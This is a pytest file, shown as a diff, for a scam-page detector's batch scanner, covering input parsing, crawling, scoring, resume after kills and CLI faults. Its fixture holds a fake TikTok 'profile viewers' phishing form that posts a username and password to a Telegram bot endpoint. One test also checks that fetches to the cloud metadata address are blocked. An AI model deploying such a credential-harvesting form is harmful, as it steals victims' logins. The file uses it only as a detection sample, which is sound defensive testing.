@@ -1,0 +1,239 @@
+"""Batch scans: inputs, crawl + score + store, resume after SIGKILL and Ctrl-C, CLI faults, demo."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import sqlite3
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pytest_httpserver import HTTPServer
+
+from detector.cli import main
+from detector.config import Settings
+from detector.demo import LocalSite, split_sample
+from detector.scan import Scanner, read_inputs
+from detector.store import Store
+from tests.conftest import ROOT
+
+SCAM_HTML = (
+    "<html><body><h1>See who viewed your TikTok profile!</h1>"
+    "<form action='https://api.telegram.org/bot123:abc/sendMessage'>"
+    "<input name=username><input type=password name=pw><button>Reveal viewers</button>"
+    "</form></body></html>"
+)
+PLAIN_HTML = "<html><body><h1>Opening hours</h1><p>We bake bread every morning.</p></body></html>"
+
+
+def _rows(n: int) -> list[dict[str, Any]]:
+    return [
+        {
+            "id": f"row-{i}",
+            "url": f"https://site{i % 7}.example/p{i}",
+            "html": SCAM_HTML if i % 2 else PLAIN_HTML,
+        }
+        for i in range(n)
+    ]
+
+
+def _write_jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    return path
+
+
+def _verdict_rows(store_path: Path) -> list[tuple[str, str]]:
+    with sqlite3.connect(store_path) as db:
+        return db.execute("SELECT input_key, created_at FROM verdicts").fetchall()
+
+
+# -- inputs ------------------------------------------------------------------------------------
+
+
+def test_inputs_of_every_kind_with_bad_rows_and_duplicates(tmp_path: Path) -> None:
+    txt = tmp_path / "urls.txt"
+    txt.write_text("# comment\nhttps://A.example/x\nhttps://a.example/x#frag\n\nhttp://b.example\n")
+    assert [k for k, _ in read_inputs(txt)] == [
+        "https://a.example/x",
+        "https://a.example/x",
+        "http://b.example/",
+    ]
+    csv_path = tmp_path / "in.csv"
+    csv_path.write_text("URL,source\nhttps://c.example/,ads\n,empty\n")
+    rows = list(read_inputs(csv_path))
+    assert json.loads(rows[0][1]) == {
+        "url": "https://c.example/",
+        "csv_row": 2,
+        "input": {"source": "ads"},
+    }
+    assert "_invalid" in json.loads(rows[1][1])
+    jl = tmp_path / "in.jsonl"
+    jl.write_text('{"id": 1, "url": "https://d.example/"}\nnot json\n[1, 2]\n')
+    keys = [k for k, _ in read_inputs(jl)]
+    assert keys == ["id:1", "line:2", "line:3"]
+    no_url = tmp_path / "bad.csv"
+    no_url.write_text("link\nhttps://e.example/\n")
+    with pytest.raises(Exception, match="url"):
+        list(read_inputs(no_url))
+
+
+# -- scanning ------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def site(httpserver: HTTPServer) -> HTTPServer:
+    httpserver.expect_request("/robots.txt").respond_with_data("User-agent: *\nAllow: /\n")
+    httpserver.expect_request("/scam").respond_with_data(SCAM_HTML, content_type="text/html")
+    httpserver.expect_request("/plain").respond_with_data(PLAIN_HTML, content_type="text/html")
+    return httpserver
+
+
+def test_scan_crawls_scores_and_records_each_input_once(
+    tmp_path: Path, site: HTTPServer, shipped: Any
+) -> None:
+    urls = [site.url_for("/scam"), site.url_for("/plain"), site.url_for("/plain")]
+    urls.append("http://127.0.0.1:9/unreachable")  # discard port: nothing listens
+    src = tmp_path / "urls.txt"
+    src.write_text("\n".join(urls) + "\nnot a url\n")
+    settings = Settings(
+        allow_loopback=True, per_host_delay=0.0, retries=0, offline=True, obey_robots=False
+    )
+    with Store.open(tmp_path / "s.sqlite") as store:
+        summary = Scanner(shipped, store, settings).run(src, "r1", progress=False)
+        verdicts = {v.url: v for v in store.verdicts(summary.run_id)}
+        stats = store.run_stats(summary.run_id)
+    assert summary.duplicates == 1 and summary.inputs == 4 and summary.unfetched == 1
+    assert stats["done"] == 3 and stats["failed"] == 1 and stats["pending"] == 0
+    assert verdicts[site.url_for("/scam")].label in ("scam", "suspicious")
+    assert verdicts[site.url_for("/plain")].label == "benign"
+    dead = verdicts["http://127.0.0.1:9/unreachable"]  # scored from the URL alone
+    assert dead.error is None and dead.score is not None
+    assert "not a url" in verdicts and verdicts["not a url"].error.startswith("fetch.invalid_url")
+
+
+def test_cli_scan_exit_codes_outputs_and_resume(tmp_path: Path, shipped: Any) -> None:
+    src = _write_jsonl(tmp_path / "in.jsonl", _rows(12))
+    store, out = tmp_path / "s.sqlite", tmp_path / "out" / "v.csv"
+    args = ["scan", "--input", str(src), "--store", str(store), "--output", str(out)]
+    assert main([*args, "--report", str(tmp_path / "r.html")]) == 0
+    assert len(out.read_text().splitlines()) == 13  # header + 12
+    assert "<table" in (tmp_path / "r.html").read_text()
+    first = sorted(_verdict_rows(store))
+    assert main(args) == 0  # same run again: nothing rescored
+    assert sorted(_verdict_rows(store)) == first
+    with src.open("a") as fh:
+        fh.write("{broken\n")
+    assert main(args) == 1  # the new bad row is recorded as failed
+    assert len(_verdict_rows(store)) == 13
+
+
+def test_cli_usage_and_fault_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    src = _write_jsonl(tmp_path / "in.jsonl", _rows(2))
+    assert main(["scan", "--input", str(tmp_path / "missing.txt")]) == 2
+    blocker = tmp_path / "file"
+    blocker.write_text("x")
+    bad_out = ["scan", "--input", str(src), "--output", str(blocker / "v.jsonl")]
+    assert main([*bad_out, "--store", str(tmp_path / "s.sqlite")]) == 2
+    corrupt = tmp_path / "corrupt.sqlite"
+    corrupt.write_bytes(b"this is not a database" * 100)
+    assert main(["scan", "--input", str(src), "--store", str(corrupt)]) == 2
+    no_url = tmp_path / "bad.csv"
+    no_url.write_text("link\nhttps://e.example/\n")
+    assert main(["scan", "--input", str(no_url), "--store", str(tmp_path / "t.sqlite")]) == 2
+    assert main(["scan", "--input", str(src), "--connect-to", "nonsense"]) == 2
+    err = capsys.readouterr().err
+    assert "no such file" in err and "corrupt.sqlite" in err and "url" in err
+    assert "connect_to" in err
+    assert main(["report", "nope", "--store", str(tmp_path / "none.sqlite")]) == 2
+
+
+def _scan_cmd(src: Path, store: Path) -> list[str]:
+    return [sys.executable, "-m", "detector.cli", "scan", "--input", str(src), "--store", str(store),
+            "--run", "big", "--batch-size", "8", "--quiet"]  # fmt: skip
+
+
+def _wait_for_progress(store: Path, proc: subprocess.Popen[bytes], at_least: int) -> int:
+    deadline = time.monotonic() + 120
+    while time.monotonic() < deadline and proc.poll() is None:
+        try:
+            n = len(_verdict_rows(store))
+        except sqlite3.Error:
+            n = 0
+        if n >= at_least:
+            return n
+        time.sleep(0.05)
+    pytest.fail(f"scan did not get going (exit {proc.poll()})")
+
+
+@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGINT])
+def test_killed_scan_resumes_and_scores_every_input_once(tmp_path: Path, sig: int) -> None:
+    total = 1500
+    src = _write_jsonl(tmp_path / "in.jsonl", _rows(total))
+    store = tmp_path / "s.sqlite"
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    proc = subprocess.Popen(_scan_cmd(src, store), env=env, stderr=subprocess.PIPE, cwd=tmp_path)
+    _wait_for_progress(store, proc, 50)
+    proc.send_signal(sig)
+    _, err = proc.communicate(timeout=60)
+    before = dict(_verdict_rows(store))
+    assert 0 < len(before) < total, "the kill should land mid-run"
+    if sig == signal.SIGINT:
+        assert proc.returncode == 130 and b"resume" in err
+    done = subprocess.run(_scan_cmd(src, store), env=env, capture_output=True, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr.decode()
+    after = _verdict_rows(store)
+    assert len(after) == total == len({k for k, _ in after})
+    assert {k: t for k, t in after if k in before} == before  # nothing rescored
+
+
+# -- demo ----------------------------------------------------------------------------------------
+
+
+def test_local_site_routes_by_host_and_serves_robots(tmp_path: Path) -> None:
+    inputs, pages = split_sample(
+        [
+            {"id": "a", "url": "https://Lure.example/v?x=1", "html": SCAM_HTML},
+            {"id": "b", "kind": "ad", "text": "see viewers", "url": ""},
+            {"id": "c", "url": "https://plain.example/", "html": PLAIN_HTML},
+        ]
+    )
+    assert inputs[0] == {"id": "a", "url": "http://lure.example/v?x=1"} and inputs[1]["id"] == "b"
+    from detector.crawl import fetch
+
+    with LocalSite(pages) as site:
+        s = Settings(allow_loopback=True, connect_to=site.connect_to(), per_host_delay=0.0)
+        assert "who viewed" in (fetch("http://lure.example/v?x=1", s).html or "")
+        assert "bread" in (fetch("http://plain.example/", s).html or "")
+        assert fetch("http://plain.example/missing", s).status == 404
+        assert fetch("http://unmapped.example/", s.replace(offline=True)).error
+        # a mapping never bypasses the guard: loopback still needs allow_loopback
+        refused = fetch("http://lure.example/v?x=1", s.replace(allow_loopback=False))
+        assert refused.error == "fetch.blocked_address" and refused.html is None
+        metadata = s.replace(connect_to="lure.example:80:169.254.169.254:80")
+        assert fetch("http://lure.example/v?x=1", metadata).error == "fetch.blocked_address"
+
+
+def test_demo_scans_the_bundled_sample_like_the_offline_scorer(
+    tmp_path: Path, shipped: Any, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sample = ROOT / "data" / "samples" / "demo.jsonl"
+    assert main(["demo", "--input", str(sample), "--out", str(tmp_path), "--quiet"]) == 0
+    printed = capsys.readouterr().out
+    assert str(tmp_path / "report.html") in printed
+    got = {
+        json.loads(line)["id"]: json.loads(line) for line in (tmp_path / "verdicts.jsonl").open()
+    }
+    rows = [json.loads(line) for line in sample.open()]
+    assert len(got) == len(rows)
+    crawled = [
+        r for r in rows if r.get("kind", "page") == "page" and r.get("url") and r.get("html")
+    ]
+    assert crawled, "the sample must include pages for the demo server"
+    for row in crawled:
+        assert got[row["id"]]["error"] is None
+        assert got[row["id"]]["label"] == shipped.score(row).label, row["id"]
